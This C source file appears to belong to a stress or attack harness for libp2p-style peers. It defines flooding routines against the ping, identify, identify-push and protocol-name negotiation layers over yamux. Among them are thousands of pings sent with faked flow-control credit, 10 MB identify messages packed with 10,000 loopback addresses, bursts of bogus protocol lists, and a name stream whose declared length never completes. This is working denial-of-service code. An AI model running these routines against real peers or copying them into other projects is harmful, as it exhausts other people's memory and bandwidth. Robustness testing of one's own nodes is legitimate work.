/*
 * Protocols of the host: names, ping, identify.
 */
#include "attack/attacks.h"

#include "codec/protobuf.h"

enum {
    LINES_MAX = 64,
    PING_STREAMS = 8,
    PING_BYTES = 32,
    PINGS = 1000,
    SWELL_BYTES = 10 << 20,
    ADDRESSES = 10000,
    PIECE_BYTES = 16 << 10,
    PUSHES = 50,
};

static const char PUSH[] = "/ipfs/id/push/1.0.0";

static size_t lines_of(const attack *a)
{
    return CN_MIN(CN_MAX(a->count, (size_t)1), (size_t)LINES_MAX);
}

static void run(attack *a, bool (*again)(line *l), bool is_deaf)
{
    line *lines = begin_lines(a, lines_of(a));
    for (size_t i = 0; i < lines_of(a); i++) {
        lines[i].is_deaf = is_deaf;
    }
    rounds(a, lines, lines_of(a), again);
    end_lines(lines, lines_of(a));
}

static bool ping_on(line *l)
{
    static const uint8_t bytes[PING_BYTES] = {1, 2, 3};
    while (l->no < 1 + 2 * PING_STREAMS) {
        (void)line_stream(l, "/ipfs/ping/1.0.0");
    }
    for (int i = 0; i < PINGS; i++) {
        uint32_t no = 1 + 2 * (uint32_t)(i % PING_STREAMS);
        frame_data(l, 0, no, cn_slice_of(bytes, sizeof bytes));
        frame(l, YAMUX_WINDOW, 0, no, PING_BYTES); /* as if they were read */
    }
    return line_flush(l);
}

void attack_ping(attack *a)
{
    run(a, ping_on, true);
}

static void put_length(cn_buf *out, size_t len)
{
    for (; len >= 0x80; len >>= 7) {
        must(cn_buf_byte(out, (uint8_t)(len | 0x80)));
    }
    must(cn_buf_byte(out, (uint8_t)len));
}

static bool say_all(line *l, uint32_t no, cn_slice all)
{
    while (all.len > 0) {
        cn_slice piece = cn_slice_head(all, PIECE_BYTES);
        frame_data(l, 0, no, piece);
        all = cn_slice_skip(all, piece.len);
        if (!line_flush_some(l)) {
            return false;
        }
    }
    return true;
}

/* A message of very many addresses, a message that is only very long, and both in many pieces. */
static void put_swollen(cn_buf *out, bool is_addresses)
{
    static const uint8_t address[] = {4, 127, 0, 0, 1, 6, 0x0f, 0xa1};
    cn_buf m = {0};
    cn_buf_init(&m, out->mem, 2 * SWELL_BYTES);
    for (size_t i = 0; is_addresses && i < ADDRESSES; i++) {
        must(cn_pb_put_bytes(&m, 2, cn_slice_of(address, sizeof address)));
    }
    if (!is_addresses) {
        must(cn_buf_reserve(&m, SWELL_BYTES));
        memset(m.data, 'x', SWELL_BYTES);
        m.len = SWELL_BYTES;
    }
    put_length(out, m.len);
    must(cn_buf_append(out, cn_buf_slice(&m)));
    cn_buf_release(&m);
}

static bool swell(line *l)
{
    cn_buf m = {0};
    cn_buf_init(&m, l->a->mem, 2 * SWELL_BYTES);
    put_swollen(&m, l->no % 4 == 1);
    uint32_t no = line_stream(l, PUSH);
    bool good = say_all(l, no, cn_buf_slice(&m)) && line_flush(l);
    cn_buf_release(&m);
    return good;
}

void attack_identify(attack *a)
{
    run(a, swell, false);
}

/* Small, whole and new each time: an agent and some protocols. */
static bool push_some(line *l)
{
    cn_buf m = {0};
    cn_buf whole = {0};
    cn_buf_init(&m, l->a->mem, 1 << 16);
    cn_buf_init(&whole, l->a->mem, 1 << 16);
    for (int i = 0; i < PUSHES; i++) {
        uint32_t no = line_stream(l, PUSH);
        cn_buf_reset(&m);
        cn_buf_reset(&whole);
        must(cn_pb_put_bytes(&m, 6, cn_str(i % 2 == 0 ? "attacker/0" : "attacker/1")));
        for (int k = 0; k < 200; k++) {
            char name[32] = "/attack/0000";
            name[9] = (char)('a' + k % 26);
            name[10] = (char)('a' + k / 26);
            name[11] = (char)('a' + i % 26);
            must(cn_pb_put_bytes(&m, 3, cn_str(name)));
        }
        put_length(&whole, m.len);
        must(cn_buf_append(&whole, cn_buf_slice(&m)));
        frame_data(l, YAMUX_FIN, no, cn_buf_slice(&whole));
    }
    cn_buf_release(&m);
    cn_buf_release(&whole);
    return line_flush(l);
}

void attack_push(attack *a)
{
    run(a, push_some, false);
}

/* One name after the other, all unknown, on stream after stream; then one that does not end. */
static bool ask_names(line *l)
{
    cn_buf names = {0};
    cn_buf_init(&names, l->a->mem, 1 << 20);
    uint32_t no = line_stream(l, "/attack/first");
    for (int i = 0; i < 100; i++) {
        put_name(&names, "/attack/one/of/very/many");
    }
    put_length(&names, 1 << 20);
    for (int i = 0; i < 4000; i++) {
        must(cn_buf_byte(&names, 'x'));
    }
    frame_data(l, 0, no, cn_buf_slice(&names));
    cn_buf_release(&names);
    return line_flush(l);
}

void attack_names(attack *a)
{
    run(a, ask_names, false);
}
